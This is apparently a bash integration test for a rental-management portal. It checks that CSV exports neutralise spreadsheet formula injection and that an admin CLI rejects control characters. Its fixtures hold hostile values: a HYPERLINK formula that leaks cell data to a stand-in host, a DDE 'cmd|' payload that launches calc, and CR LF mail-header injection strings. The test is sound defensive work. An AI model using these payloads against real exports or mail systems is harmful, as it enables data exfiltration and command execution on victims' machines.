#!/usr/bin/env bash
# porch — integration test of text that must not turn into something else: cells of
# the bookings and statements CSV exports that a spreadsheet would run as formulas
# (a tab, CR, LF, space or other blank before = + - @), downloaded through nginx and
# read back the way a spreadsheet reads them; and porchctl refusing control
# characters in every operator input (exit 2, a message naming the argument,
# nothing written). TAP.
set -eu
. "$(cd "$(dirname "$0")/../lib" && pwd)/stack.sh"

stack_require mariadbd nginx curl python3

stack_setup --fixture acme

# --- CSV cells that a spreadsheet would take for formulas. ---
# Text a portal user can put in front of staff's accountant: guest names, phone
# numbers and references arrive from booking channels, property names from staff.
sql "UPDATE bookings SET
	guest_name = CONCAT(CHAR(9), '=HYPERLINK(\"http://evil.test/?\"&A1,\"Invoice\")'),
	guest_phone = CONCAT(CHAR(13), '+1 555 0100'),
	reference = CONCAT(' ', CHAR(10), '@SUM(1+1)')
	WHERE tenant_id = $ACME AND reference = 'A1-1'"
sql "UPDATE bookings SET guest_name = CONCAT(X'C2A0', '-2+3') WHERE tenant_id = $ACME AND reference = 'A2-1'"
sql "UPDATE properties SET name = CONCAT(CHAR(13), CHAR(10), '=1+cmd|'' /C calc''!A0')
	WHERE tenant_id = $ACME AND name = 'Ada Beach House'"

stack_portal_user acme 'Ada Owner' ada@acme.test "$PW_OWNER"
sql "INSERT INTO permission_groups (tenant_id, name, permissions, financial_level)
	VALUES ($ACME, 'Export', 'calendar.view,booking.guest_name,booking.guest_contact,statements.view,export.csv', 'all')"
stack_grant acme ada@acme.test Export 'customer:Ada Owner'

stack_serve
J=$(jar ada)
owner_signs_in "$J" ada@acme.test
check_eq "$HTTP_STATUS" 303 "Ada signs in"

# formulas FILE: every cell of the CSV in FILE that a spreadsheet would run, one a
# line as Python's repr (nothing when there is none). A spreadsheet skips blanks and
# control characters before it looks for = + - @; a cell starting with ' is text,
# and a plain number is a number.
formulas() {
	python3 - "$1" <<-'EOF'
		import csv, re, sys, unicodedata
		rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
		for row in rows:
		    for cell in row:
		        if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell):
		            continue
		        s = cell
		        while s and (s[0].isspace() or unicodedata.category(s[0]) in ("Cc", "Cf", "Zs", "Zl", "Zp")):
		            s = s[1:]
		        if s[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"):
		            print(repr(cell))
	EOF
}
# cell FILE ROW COL: one cell of the CSV in FILE (0-based), as Python's repr.
cell() {
	python3 - "$1" "$2" "$3" <<-'EOF'
		import csv, sys
		rows = list(csv.reader(open(sys.argv[1], encoding="utf-8", newline="")))
		print(repr(rows[int(sys.argv[2])][int(sys.argv[3])]))
	EOF
}

req "$J" "$P" acme.test /portal/bookings.csv
check_eq "$HTTP_STATUS" 200 "the bookings CSV downloads"
cp "$T/http.body" "$T/bookings.csv"
check_eq "$(formulas "$T/bookings.csv")" "" "no cell of the bookings CSV is a formula to a spreadsheet"
check_eq "$(head -n 1 "$T/bookings.csv" | tr -d '\r')" \
	"reference,property,start,end,nights,status,adults,children,guest_name,guest_email,guest_phone,base_rate,cleaning_fee,taxes,channel_commission,management_fee,owner_revenue,total_price,payout,currency" \
	"...with the guest and money columns"
check_eq "$(cell "$T/bookings.csv" 1 8)" \
	"'\\'\\t=HYPERLINK(\"http://evil.test/?\"&A1,\"Invoice\")'" \
	"a guest name of a tab and =HYPERLINK: kept whole, as text behind a '"
check_eq "$(cell "$T/bookings.csv" 1 10)" "\"'\\r+1 555 0100\"" "a phone number of CR and +: text"
check_eq "$(cell "$T/bookings.csv" 1 0)" "\"' \\n@SUM(1+1)\"" "a reference of a space, LF and @: text"
check_eq "$(cell "$T/bookings.csv" 1 1)" "\"'\\r\\n=1+cmd|' /C calc'!A0\"" "a property name of CR LF and =: text"
check_eq "$(cell "$T/bookings.csv" 2 8)" "\"'\\xa0-2+3\"" "a guest name of a no-break space and -: text"
check_eq "$(cell "$T/bookings.csv" 1 11)" "'1000.00'" "amounts stay plain numbers"
sql "UPDATE bookings SET channel_commission_cents = -1250 WHERE tenant_id = $ACME AND reference = 'A2-1'"
req "$J" "$P" acme.test /portal/bookings.csv
cp "$T/http.body" "$T/bookings2.csv"
check_eq "$(cell "$T/bookings2.csv" 2 14)" "'-12.50'" "a negative amount stays a number, unguarded"

req "$J" "$P" acme.test /portal/statements.csv
check_eq "$HTTP_STATUS" 200 "the statements CSV downloads"
cp "$T/http.body" "$T/statements.csv"
check_eq "$(formulas "$T/statements.csv")" "" "no cell of the statements CSV is a formula to a spreadsheet"
check_eq "$(cell "$T/statements.csv" 1 2)" "\"'\\r\\n=1+cmd|' /C calc'!A0\"" "...the property name is text there too"

# --- porchctl: no control character in any operator input. ---
# refused DESC PATTERN ARGS...: porchctl ARGS exits 2 with a message matching
# PATTERN on stderr and nothing on stdout.
refused() {
	local desc=$1 pattern=$2 rc=0
	shift 2
	stack_porchctl "$@" >"$T/ctl.out" 2>"$T/ctl.err" </dev/null || rc=$?
	check_eq "$rc" 2 "$desc: porchctl exits 2"
	check_match "$(cat "$T/ctl.err")" "$pattern" "...naming what was refused"
	check_eq "$(cat "$T/ctl.out")" "" "...and reports nothing done"
}
tenants() { sql "SELECT COUNT(*) FROM tenants"; }
groups() { sql "SELECT COUNT(*) FROM permission_groups"; }
t0=$(tenants); g0=$(groups)
refused "a tenant name with CR LF (a mail header injection)" \
	'tenant add: NAME \(the tenant name\) holds a line break at character 5.*nothing was changed' \
	tenant add evil $'Acme\r\nBcc: victim@evil.test'
refused "a tenant name with a tab (it would break tenant list)" \
	'tenant add: NAME \(the tenant name\) holds a control character at character 5' \
	tenant add evil2 $'Acme\tRentals'
refused "a tenant name with a C1 control character (NEL)" \
	'tenant add: NAME \(the tenant name\) holds a control character at character 5' \
	tenant add evil3 $'Acme\xc2\x85Rentals'
refused "a tenant name with a Unicode line separator" \
	'tenant add: NAME \(the tenant name\) holds a line break' \
	tenant add evil4 $'Acme\xe2\x80\xa8Rentals'
refused "a tenant name that is not UTF-8" 'NAME \(the tenant name\) is not valid UTF-8' \
	tenant add evil5 $'Acme\xffRentals'
refused "a slug with a tab" 'tenant add: SLUG holds a control character' \
	tenant add $'evil\t6' 'Evil Rentals'
check_eq "$(tenants)" "$t0" "no tenant was written"
check_eq "$(groups)" "$g0" "...nor any group for one"
check_eq "$(sql "SELECT COUNT(*) FROM tenants WHERE name LIKE 'Acme%' AND slug <> 'acme'")" 0 "...under any slug"

d0=$(sql "SELECT COUNT(*) FROM tenant_domains")
refused "a host with an LF" 'domain add: HOST holds a line break' domain add $'evil.test\n' acme
refused "a slug with an ESC for domain add" 'domain add: SLUG holds a control character' \
	domain add evil.test $'acme\e'
check_eq "$(sql "SELECT COUNT(*) FROM tenant_domains")" "$d0" "no domain was written"

s0=$(sql "SELECT COUNT(*) FROM staff_users")
refused "a staff login with a control character before the @" \
	'staff add: EMAIL holds a control character at character 5' \
	staff add acme $'evil\x01@acme.test'
rc=0
printf 'a long\tenough password for staff\n' |
	stack_porchctl staff add acme newstaff@acme.test >"$T/ctl.out" 2>"$T/ctl.err" || rc=$?
check_eq "$rc" 2 "a staff password with a tab on standard input: porchctl exits 2"
check_contains "$(cat "$T/ctl.err")" "the password holds a control character" "...saying so"
check_eq "$(sql "SELECT COUNT(*) FROM staff_users")" "$s0" "no staff member was written"
refused "a staff login with CR for reset-mfa" 'staff reset-mfa: EMAIL holds a line break' \
	staff reset-mfa acme $'office@acme.test\r'

o0=$(sql "SELECT COUNT(*) FROM outbox")
refused "a test mail's --name with CR LF" 'mail test: NAME \(--name\) holds a line break' \
	mail test ops@acme.test --name $'Ops\r\nBcc: x@evil.test'
refused "a test mail address with a tab" 'mail test: ADDRESS holds a control character' \
	mail test $'ops\t@acme.test'
check_eq "$(sql "SELECT COUNT(*) FROM outbox")" "$o0" "no mail was queued"
refused "a command word with a control character" 'argument 1 holds a control character' \
	$'tenant\x7f' list
rc=0
"$top_builddir/porchctl" -c $'/etc/porch/porch.conf\n' tenant list >"$T/ctl.out" 2>"$T/ctl.err" || rc=$?
check_eq "$rc" 2 "a config path with an LF: porchctl exits 2"
check_contains "$(cat "$T/ctl.err")" "the config path (-c) holds a line break" "...naming the config path"

# What is fine stays fine: UTF-8 names, spaces.
rc=0; stack_porchctl tenant add zoe 'Zoë Ferienwohnungen & Söhne' >"$T/ctl.out" 2>&1 || rc=$?
check_eq "$rc" 0 "a tenant name in UTF-8 with spaces is accepted"
check_eq "$(sql "SELECT name FROM tenants WHERE slug = 'zoe'")" 'Zoë Ferienwohnungen & Söhne' "...and stored as given"
